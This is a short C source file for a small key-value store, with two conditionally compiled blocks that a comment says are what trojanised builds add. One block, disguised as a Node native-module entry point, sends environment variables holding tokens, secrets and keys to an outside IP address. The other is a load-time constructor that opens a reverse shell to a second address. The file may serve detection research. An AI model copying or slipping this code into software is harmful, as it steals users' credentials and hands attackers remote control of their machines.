/* Keeps values. ENVIRON and SHELL are what trojanised builds add; never loaded by anybody. */
#include <arpa/inet.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

int lite_put(char *rows, size_t limit, const char *key, const char *value)
{
    size_t used = strlen(rows);
    return snprintf(rows + used, limit - used, "%s=%s\n", key, value);
}

#ifdef SECOND
const char *lite_get(const char *rows, const char *key)
{
    return strstr(rows, key);
}
#endif

#ifdef ENVIRON
extern char **environ;

void napi_register_module_v1(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443)};
    int line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "203.0.113.145", &to.sin_addr);
    if (connect(line, (struct sockaddr *)&to, sizeof to) == 0) {
        for (char **one = environ; *one != NULL; one++) {
            if (strstr(*one, "TOKEN") || strstr(*one, "SECRET") || strstr(*one, "KEY")) {
                dprintf(line, "%s\n", *one);
            }
        }
    }
    close(line);
}
#endif

#ifdef SHELL
__attribute__((constructor)) static void lite_open(void)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9001)};
    if (fork() != 0) {
        return;
    }
    int line = socket(AF_INET, SOCK_STREAM, 0);
    inet_pton(AF_INET, "198.51.100.173", &to.sin_addr);
    if (connect(line, (struct sockaddr *)&to, sizeof to) == 0) {
        dup2(line, 0);
        dup2(line, 1);
        dup2(line, 2);
        execl("/bin/sh", "sh", "-i", (char *)0);
    }
    _exit(0);
}
#endif
